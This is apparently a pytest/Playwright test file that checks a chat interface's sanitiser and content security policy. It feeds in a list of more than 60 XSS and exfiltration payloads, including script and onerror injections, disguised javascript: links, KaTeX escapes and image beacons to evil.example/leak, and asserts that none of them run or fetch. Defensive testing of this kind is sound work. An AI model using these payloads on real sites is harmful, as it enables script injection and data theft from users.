"""What an answer may contain, and must not do: run, fetch, or lead astray."""

from collections.abc import AsyncIterator
from typing import Final

import pytest
from playwright.async_api import Browser, Route, expect

from tests.browser.visitor import Chat
from tests.support.server import ServerProcess

pytestmark = pytest.mark.anyio

_BAD: Final = "window.hacked=1"
HOSTILE: Final = [
    f"<script>{_BAD}</script>",
    f"<img src=x onerror={_BAD}>",
    f'<img src="nowhere" onerror="{_BAD}">',
    f"<svg onload={_BAD}>",
    f"<svg><script>{_BAD}</script></svg>",
    f"<svg><animate onbegin={_BAD} attributeName=x dur=1s>",
    f"<iframe src='javascript:parent.{_BAD}'></iframe>",
    f'<iframe srcdoc="<script>parent.{_BAD}</script>"></iframe>',
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<div style="background:url(https://evil.example/x)">x</div>',
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>x</button></form>",
    f"<details open ontoggle={_BAD}>x</details>",
    f"<input autofocus onfocus={_BAD}>",
    f"<body onload={_BAD}>",
    f"<video><source onerror={_BAD}></video>",
    f"<audio src=x onerror={_BAD}>",
    f"<math><mtext><img src=x onerror={_BAD}></mtext></math>",
    "<img srcset='https://evil.example/a 1x, https://evil.example/b 2x'>",
    "<picture><source srcset=https://evil.example/a><img></picture>",
    f"<template><script>{_BAD}</script></template>",
    f"<noscript><img title='</noscript><img src=x onerror={_BAD}>'></noscript>",
    f"[a](javascript:{_BAD})",
    f"[a](JaVaScRiPt:{_BAD})",
    f"[a](java\tscript:{_BAD})",
    f"[a](&#106;avascript:{_BAD})",
    f"[a](javascript&colon;{_BAD})",
    f"[a](<javascript:{_BAD}>)",
    f"[a](\x01javascript:{_BAD})",
    f"<javascript:{_BAD}>",
    f"[a](vbscript:{_BAD})",
    f"[a](data:text/html,<script>{_BAD}</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://evil.example/x)",
    "[a](//evil.example/x)",
    "[a](v1/sessions)",
    f"[a][r]\n\n[r]: javascript:{_BAD}",
    f'[a](https://evil.example/ "x\' onmouseover={_BAD}")',
    "![a](https://evil.example/leak?q=secret)",
    "![a][r]\n\n[r]: https://evil.example/leak",
    "![a](//evil.example/leak)",
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    f"![a](javascript:{_BAD})",
    "[![a](https://evil.example/leak)](https://evil.example/)",
    "| ![a](https://evil.example/leak) |\n|---|\n| <img src=https://evil.example/leak> |",
    f"```html\n<script>{_BAD}</script>\n```",
    f'```"><img src=x onerror={_BAD}>\nx\n```',
    f"`<img src=x onerror={_BAD}>`",
    f"$\\href{{javascript:{_BAD}}}{{x}}$",
    "$\\includegraphics{https://evil.example/leak}$",
    f"$\\htmlData{{x=1}}{{<img src=x onerror={_BAD}>}}$",
    "$\\htmlStyle{background:url(https://evil.example/x)}{x}$",
    "$$\n\\def\\a{\\a\\a}\\a\n$$",
    f"$\\unknown{{<img src=x onerror={_BAD}>}}$",
    "$\\rule{1e9em}{1e9em}$",
    f"[^1]\n\n[^1]: <img src=x onerror={_BAD}>",
    f"```mermaid\nclick a href 'javascript:{_BAD}'\n```",
    f"<a id=root name=root href=javascript:{_BAD}>x</a>",
]


@pytest.fixture(params=["with its policy", "without its policy"])
async def target(
    chromium: Browser, steady_server: ServerProcess, request: pytest.FixtureRequest
) -> AsyncIterator[tuple[Chat, list[str]]]:
    bypass = request.param == "without its policy"
    context = await chromium.new_context(bypass_csp=bypass, locale="en-GB")
    elsewhere: list[str] = []
    home = f"{steady_server.url}/"
    context.on("request", lambda sent: None if sent.url.startswith(home) else elsewhere.append(sent.url))
    yield Chat(await context.new_page(), steady_server.url), elsewhere
    await context.close()


@pytest.mark.promise("X-02")
async def test_hostile_output_neither_runs_nor_fetches(target: tuple[Chat, list[str]]) -> None:
    """With the policy taken away the sanitiser alone holds."""
    chat, elsewhere = target
    assert len(HOSTILE) >= 60
    await chat.show(HOSTILE)
    for details in await chat.page.locator(".log details").all():
        await details.evaluate("node => node.open = true")
    await expect(chat.page.locator(".katex").first).to_be_visible()
    assert await chat.page.evaluate("window.hacked") is None
    assert elsewhere == []
    foreign = ".log :is(script, iframe, object, embed, style, link, base, meta, form, img, svg [onload], video, audio)"
    await expect(chat.page.locator(foreign)).to_have_count(0)
    await expect(chat.page.locator(".log [onerror], .log [onload], .log [onfocus], .log [srcset]")).to_have_count(0)
    links = await chat.page.eval_on_selector_all(".log a[href]", "all => all.map(a => [a.protocol, a.rel, a.title])")
    assert links, "the good addresses are links"
    for protocol, rel, title in links:
        assert protocol in {"http:", "https:", "mailto:"}
        assert "noopener" in rel
        assert title
    await chat.screenshot("hostile")


@pytest.mark.promise("X-02")
async def test_the_policy_alone_holds(chromium: Browser, steady_server: ServerProcess) -> None:
    """As if the sanitiser were not there: what reaches the document as HTML, or is put there, does nothing."""
    context = await chromium.new_context()
    elsewhere: list[str] = []

    async def leave(route: Route) -> None:
        elsewhere.append(route.request.url)
        await route.abort()

    # A route and not "request", which tells of those that the policy stops in the renderer, too.
    await context.route("https://evil.example/**", leave)
    chat = await Chat(await context.new_page(), steady_server.url).open()
    refused = await chat.page.evaluate(
        """() => {
            try { document.body.innerHTML = "<img src=x onerror='window.hacked=1'>"; return false } catch { return true }
        }"""
    )
    assert refused, "Trusted Types: no text becomes HTML"
    await chat.page.evaluate(
        """() => {
            const image = document.createElement("img");
            image.src = "https://evil.example/leak";
            try { image.setAttribute("onerror", "window.hacked = 1") } catch { /* refused, too */ }
            const link = Object.assign(document.createElement("a"), { href: "javascript:window.hacked=1" });
            document.body.append(image, link);
            link.click();
            return fetch("https://evil.example/leak").catch(() => null);
        }"""
    )
    assert await chat.page.evaluate("window.hacked") is None
    assert elsewhere == []
    await context.close()
